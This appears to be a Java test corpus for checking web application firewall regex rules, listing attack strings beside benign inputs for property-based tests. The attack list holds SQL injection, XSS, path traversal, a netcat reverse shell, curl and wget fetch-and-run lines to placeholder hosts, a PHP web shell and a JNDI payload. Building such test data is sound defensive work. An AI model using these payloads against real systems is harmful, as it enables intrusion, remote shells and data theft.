package dev.tdeveloper.security.waf.regex;

import java.util.List;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Tuple;

/** Attack and benign values (byte strings) that the CRS patterns are exercised on. */
final class RegexCorpus {
  private RegexCorpus() {}

  static final List<String> ATTACKS =
      List.of(
          "1' OR '1'='1",
          "1 union select user,password from users--",
          "admin'--",
          "1; DROP TABLE students;--",
          "1 AND 1=1",
          "a=a",
          "' or 1=1 limit 1 -- -",
          "SELECT * FROM information_schema.tables",
          "1' AND SLEEP(5)#",
          "benchmark(10000000,md5(1))",
          "x' having 1=1--",
          "/*!50000select*/ 1",
          "<script>alert(1)</script>",
          "<img src=x onerror=alert(document.cookie)>",
          "javascript:alert(1)",
          "<svg/onload=alert`1`>",
          "\"><iframe src=javascript:alert(1)>",
          "<a href=\"&#x6a;avascript:alert(1)\">",
          "../../../../etc/passwd",
          "..\\..\\windows\\win.ini",
          "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
          "/etc/shadow\u0000.jpg",
          "http://evil.example/shell.txt?",
          "file:///etc/passwd",
          "; cat /etc/passwd",
          "| nc -e /bin/sh 10.0.0.1 4444",
          "$(curl http://x.example/a.sh|sh)",
          "`wget http://x.example`",
          "<?php system($_GET['c']); ?>",
          "php://filter/convert.base64-encode/resource=index.php",
          "eval(base64_decode('ZWNobyAx'))",
          "${jndi:ldap://x.example/a}",
          "java.lang.Runtime.getRuntime().exec(\"id\")",
          "class.module.classLoader.resources",
          "require('child_process').exec('id')",
          "Content-Type: text/html\r\nSet-Cookie: a=b",
          "GET /index.html HTTP/1.1\r\nHost: x",
          "<!ENTITY xxe SYSTEM \"file:///etc/passwd\">",
          "Warning: mysql_fetch_array() expects parameter 1",
          "ORA-00933: SQL command not properly ended",
          "\u00ff\u00fe' or 1=1 \u00c0\u00af",
          "SeLeCt/**/pAsSwOrD/**/FrOm/**/users");

  static final List<String> BENIGN =
      List.of(
          "",
          "hello world",
          "id=42&name=John+Smith&sort=asc",
          "{\"user\":{\"name\":\"Zo\u00c3\u00ab\",\"tags\":[\"a\",\"b\"],\"age\":31}}",
          "The quick brown fox jumps over the lazy dog.",
          "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
          "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
          "en-US,en;q=0.5",
          "gzip, deflate, br",
          "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW",
          "application/json; charset=utf-8",
          "2024-05-01T12:30:00Z",
          "caf\u00c3\u00a9 cr\u00c3\u00a8me br\u00c3\u00bbl\u00c3\u00a9e",
          "Please select one option from the list below",
          "O'Reilly",
          "1 + 1 = 2",
          "/api/v1/notes/123/comments?page=2&per_page=50",
          "a".repeat(300),
          "line one\nline two\r\nline three\n",
          "\t  padded value  \t",
          "SGVsbG8gV29ybGQ=",
          "user@example.com",
          "https://www.example.com/search?q=java+regex",
          "\u0000\u0001\u007f\u0080\u00ff");

  static List<String> all() {
    return java.util.stream.Stream.concat(ATTACKS.stream(), BENIGN.stream()).toList();
  }

  /**
   * Values made of up to {@code maxParts} pieces: a token (weight {@code tokenWeight}) or any one
   * byte (weight 1).
   */
  static Arbitrary<String> tokenValues(List<String> tokens, int tokenWeight, int maxParts) {
    Arbitrary<String> ascii = Arbitraries.chars().range('\u0000', '\u00ff').map(String::valueOf);
    return Arbitraries.frequencyOf(
            Tuple.of(tokenWeight, Arbitraries.of(tokens)), Tuple.of(1, ascii))
        .list()
        .ofMaxSize(maxParts)
        .map(parts -> String.join("", parts));
  }
}
